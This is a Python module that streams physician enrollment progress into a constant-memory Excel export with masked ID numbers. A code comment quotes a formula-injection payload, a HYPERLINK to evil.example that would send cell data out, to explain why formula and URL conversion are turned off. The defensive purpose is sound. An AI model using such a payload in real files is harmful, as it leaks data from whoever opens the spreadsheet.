"""Excel reports: 报名进度 as an xlsx file, written in constant memory so that a province-wide
export of 330,000 rows runs in a worker without holding them all."""
import xlsxwriter
from flask_babel import gettext as _
from flask_babel import lazy_gettext as _l
from sqlalchemy import select

from models import Department, Enrollment, Institution, Physician
from models.enrollment import ENROLLMENT_STATE, PROCEDURE
from models.physician import PHYSICIAN_LEVEL, PRACTICE_CATEGORY
from security import idcard

PROGRESS_HEADERS = [_l("No."), _l("Full name"), _l("ID number"), _l("Institution"),
                    _l("Department"), _l("Practice category"), _l("Physician level"),
                    _l("Procedure"), _l("Enrollment state"), _l("Submitted at"), _l("Outcome")]
RESULT = {"pass": _l("Passed"), "fail": _l("Failed")}

# Every spreadsheet we write: text is written as text. A physician named
# =HYPERLINK("http://evil.example/?d="&C3,"详情") must stay a name, not become a live formula
# (nor a link, nor a number) in the spreadsheet of whoever opens the file.
SAFE_WRITING = {"strings_to_formulas": False, "strings_to_urls": False,
                "strings_to_numbers": False}


def progress_rows(session, enrollment_ids_query, chunk=2000):
    """Yield one row per enrollment; ``enrollment_ids_query`` is a scoped, filtered select."""
    statement = (
        select(Enrollment.id, Physician.name, Physician.id_number, Institution.name,
               Department.name, Physician.practice_category, Physician.level,
               Enrollment.procedure, Enrollment.state, Enrollment.submitted_at,
               Enrollment.result)
        .join(Physician, Physician.id == Enrollment.physician_id)
        .join(Institution, Institution.id == Enrollment.institution_id)
        .outerjoin(Department, Department.id == Physician.department_id)
        .where(Enrollment.id.in_(enrollment_ids_query))
        .order_by(Institution.id, Enrollment.id)
        .execution_options(yield_per=chunk)
    )
    for index, row in enumerate(session.execute(statement), start=1):
        (_id, name, number, institution, department, category, level, procedure, state,
         submitted, result) = row
        yield [index, name, idcard.mask(number), institution, department or "",
               PRACTICE_CATEGORY.label(category), PHYSICIAN_LEVEL.label(level),
               PROCEDURE.label(procedure), ENROLLMENT_STATE.label(state),
               submitted.strftime("%Y-%m-%d %H:%M") if submitted else "",
               str(RESULT.get(result, ""))]


def write_progress(path, rows):
    book = xlsxwriter.Workbook(str(path), {"constant_memory": True, **SAFE_WRITING})
    sheet = book.add_worksheet(_("Enrollment progress"))
    bold = book.add_format({"bold": True, "bg_color": "#DDEBF7"})
    sheet.write_row(0, 0, [str(header) for header in PROGRESS_HEADERS], bold)
    count = 0
    for count, row in enumerate(rows, start=1):
        sheet.write_row(count, 0, row)
    sheet.set_column(0, len(PROGRESS_HEADERS) - 1, 16)
    book.close()
    return count
